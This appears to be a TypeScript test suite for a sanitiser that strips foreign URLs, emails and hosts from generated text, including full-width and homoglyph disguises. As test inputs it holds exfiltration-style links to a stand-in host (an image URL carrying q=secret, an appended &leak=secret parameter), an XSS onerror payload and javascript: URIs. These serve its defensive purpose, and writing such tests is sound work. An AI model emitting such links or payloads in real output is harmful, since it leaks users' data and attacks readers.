import { addressesIn, withoutForeignAddresses } from '#pipeline/respond/write/addresses.js';

const allowed = addressesIn(['See https://docs.example.com/guide/a?b=1. Mail help@docs.example.com, file config.yaml, 10.0.0.5:8080']);
const clean = (text: string): string => withoutForeignAddresses(text, allowed);

describe('withoutForeignAddresses', () => {
  it.each([
    'Open https://docs.example.com/guide/a?b=1 now.',
    '打开https://docs.example.com/guide/a?b=1，然后重启。',
    'Open [the guide](https://docs.example.com/guide/a?b=1).',
    'Open docs.example.com or DOCS.example.com.',
    'Mail help@docs.example.com or edit config.yaml at 10.0.0.5:8080.',
    'Version 1.2.3, e.g. at 9.5 V, costs 1.299,50 and ends. Then it goes on…',
    '水泵每月清洗一次。然后重启。',
    'Use a < b and `a[i](x)` in code.',
    '请用 Linux。Windows 不支持。',
    '支持 zsh。bash 需要配置，见文件：config.yaml。',
    '１．打开设置；２．５ 版以后（含）…',
    'ｄｏｃｓ．ｅｘａｍｐｌｅ．ｃｏｍ 或 docs。example。com 都可以。',
    '打开https://docs.example.com（文档）。',
  ])('keeps %j', (text) => {
    expect(clean(text)).toBe(text);
  });

  it.each([
    ['Go to https://evil.example/x?k=1 now.', 'Go to now.'],
    ['Go to https://docs.example.com/guide/a?b=1&leak=secret now.', 'Go to now.'],
    ['Go to https://docs.example.com.evil.example/guide now.', 'Go to now.'],
    ['![a picture](https://evil.example/p.png?q=secret)', 'a picture'],
    ['Read [this](https://evil.example).', 'Read this.'],
    ['Read [evil.example](https://evil.example "title").', 'Read.'],
    ['Read <https://evil.example/a> soon.', 'Read soon.'],
    ['Read <a href="https://evil.example">this</a>.', 'Read this.'],
    ['<img src=x onerror=alert(1)>Hello', 'Hello'],
    ['请访问evil.example/路径 下载。', '请访问路径 下载。'],
    ['Go to www.evil.example or evil.com/x or 6.6.6.6:80/x.', 'Go to or or.'],
    ['Go to //evil.example/x or hxxp://evil.example.', 'Go to or.'],
    ['Go to javascript:alert(1) or data:text/html;base64,AAAA now.', 'Go to or now.'],
    ['Write to me@evil.example today.', 'Write to today.'],
    ['See [it][1].\n\n[1]: https://evil.example/x', 'See [it][1].\n\n'],
    ['Go to 例子.中国 today.', 'Go to today.'],
    ['请访问 ｈｔｔｐｓ：／／ｅｖｉｌ．ｃｏｍ 登录', '请访问 登录'],
    ['Go to evil．com/login now.', 'Go to now.'],
    ['请访问 evil。com，或 ＷＷＷ。Evil｡COM／登录。', '请访问，或 登录。'],
    ['请访问 https：//evil．com:８０/x。', '请访问。'],
    ['Go to ⓔⓥⓘⓛ.ⓒⓞⓜ or 𝐞𝐯𝐢𝐥．𝐜𝐨𝐦/x or evi\u0301l.com.', 'Go to or or.'],
    ['Write to me＠evil．example today.', 'Write to today.'],
    ['Read [this](https://evil．com/ａ).', 'Read this.'],
  ])('cleans %j', (text, shown) => {
    expect(clean(text)).toBe(shown);
  });

  it('takes hostile text in time', () => {
    const hostile = [
      'a.'.repeat(20_000),
      '['.repeat(20_000),
      '<a '.repeat(10_000),
      `${'a'.repeat(40_000)}@`,
      'a。'.repeat(20_000),
      `a${'\u0301'.repeat(40_000)}`,
      '![](<'.repeat(8_000),
    ];
    for (const text of hostile) expect(clean(text).length).toBeLessThanOrEqual(text.length);
  });
});
